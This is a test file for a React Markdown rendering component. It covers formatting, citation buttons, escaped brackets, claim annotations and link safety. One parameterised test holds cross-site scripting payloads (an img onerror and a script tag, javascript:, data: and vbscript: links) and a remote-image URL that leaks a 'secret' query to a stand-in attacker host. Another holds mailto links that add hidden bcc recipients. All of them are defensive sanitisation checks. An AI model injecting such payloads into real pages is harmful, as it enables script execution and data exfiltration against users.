import { fireEvent, screen } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { renderWidget } from "../../test/renderWidget";
import { MarkdownView } from "./MarkdownView";

const citations = [{ number: 1, title: "Annual report" }];

describe("MarkdownView", () => {
  it("shows headings, lists, tables and code", async () => {
    await renderWidget(<MarkdownView text={"## Need\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`"} citations={[]} marks={[]} />);
    expect(screen.getByRole("heading", { name: "Need", level: 2 })).toBeTruthy();
    expect(screen.getAllByRole("listitem").map(({ textContent }) => textContent)).toEqual(["one", "two"]);
    expect(screen.getByRole("cell", { name: "2" })).toBeTruthy();
    expect(screen.getByText("x < y").tagName).toBe("CODE");
  });

  it("has the direction of its own text, regardless of the page", async () => {
    await renderWidget(<MarkdownView text="We serve." citations={[]} marks={[]} />);
    expect(screen.getByText("We serve.").closest("[dir]")?.getAttribute("dir")).toBe("auto");
  });

  it("shows each citation of a list, in the same way as the checker", async () => {
    const known = [...citations, { number: 1200, title: "Test report" }];
    await renderWidget(<MarkdownView text="We serve [1, 1200] and [1; 9]." citations={known} marks={[]} />);
    expect(screen.getAllByRole("button").map((button) => button.textContent)).toEqual(["1", "1200"]);
    expect(document.body.textContent).toContain("[1; 9]");
  });

  it("makes known citations clickable and leaves others as text", async () => {
    const onCitation = vi.fn();
    await renderWidget(<MarkdownView text="We serve [1] and [2]. No [7] source. Again [1]." citations={citations} marks={[]} onCitation={onCitation} />);
    for (const button of screen.getAllByRole("button", { name: "Citation 1: Annual report" })) fireEvent.click(button);
    expect(onCitation.mock.calls).toEqual([[{ number: 1, place: 0 }], [{ number: 1, place: 1 }]]);
    expect(screen.getByText(/and \[2\]\./)).toBeTruthy();
  });

  it("shows escaped brackets as text, whatever they contain", async () => {
    await renderWidget(<MarkdownView text={"As \\[1\\] and &#91;1&#93; say [1]."} citations={citations} marks={[]} />);
    expect(screen.getAllByRole("button")).toHaveLength(1);
    expect(screen.getByText(/^As/).textContent).toBe("As [1] and [1] say\u202F1.");
    expect(screen.getByRole("button").parentElement?.textContent).toBe("\u202F1"); // a unit that no line divides
  });

  it.each([
    ["HTML", "<img src=x onerror=alert(1)><script>alert(1)</script>"],
    ["remote images", "![](http://evil.example/?q=secret)"],
    ["scripts in links", "[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)"],
    ["links to another host in disguise", "[x](//evil.example/)"],
  ])("makes %s inert", async (_what, text) => {
    await renderWidget(<MarkdownView text={text} citations={[]} marks={[]} />);
    expect(document.querySelectorAll("img, script")).toHaveLength(0);
    for (const link of document.querySelectorAll("a")) expect(link.href).toMatch(/^http:\/\/evil\.example\/\?q=secret$/);
  });

  it("links to an email address, but not to one that adds hidden recipients", async () => {
    await renderWidget(<MarkdownView text="[us](mailto:us@x.org) [them](mailto:us@x.org?bcc=them@y.org) [others](MAILTO:?to=them@y.org)" citations={[]} marks={[]} />);
    expect(screen.getAllByRole("link").map((link) => link.getAttribute("href"))).toEqual(["mailto:us@x.org"]);
  });

  it("opens links to other sites in a new tab without a referrer", async () => {
    await renderWidget(<MarkdownView text="[SAM](https://sam.gov/)" citations={[]} marks={[]} />);
    const link = screen.getByRole("link", { name: "SAM" });
    expect([link.getAttribute("target"), link.getAttribute("rel")]).toEqual(["_blank", "noopener noreferrer"]);
  });

  it("underlines unsupported claims and says why in text", async () => {
    const text = "Fine 𝔸 [1].\n\n- **We won** a prize [1].\n- We run `a` well.";
    const place = (part: string): { start: number; end: number } => {
      const start = Array.from(text.slice(0, text.indexOf(part))).length;
      return { start, end: start + Array.from(part).length };
    };
    const marks = [
      { ...place("**We won** a prize [1]."), isCited: true, note: "Not found in the source" },
      { ...place("We run `a` well."), isCited: false, note: "No source" },
    ];
    await renderWidget(<MarkdownView text={text} citations={citations} marks={marks} />);
    const items = screen.getAllByRole("listitem");
    expect(items.map(({ textContent }) => textContent)).toEqual(["We won a prize\u202F1. (Not found in the source)", "We run a well. (No source)"]);
    expect(items.map((item) => item.querySelectorAll(".fw-claim").length)).toEqual([2, 2]);
    expect(items[1]?.querySelectorAll(".fw-claim-uncited")).toHaveLength(2);
    expect(screen.getByText("We won").closest("strong")).toBeTruthy();
    expect(document.querySelector("p .fw-claim")).toBeNull();
  });

  it("shows marked text in code, and the mark's own characters, unchanged", async () => {
    await renderWidget(<MarkdownView text={"`We win` \uE000x"} citations={[]} marks={[{ start: 1, end: 7, isCited: true, note: "No" }]} />);
    expect(screen.getByText("We win").tagName).toBe("CODE");
    expect(document.body.textContent).toContain("\uFFFDx");
  });
});
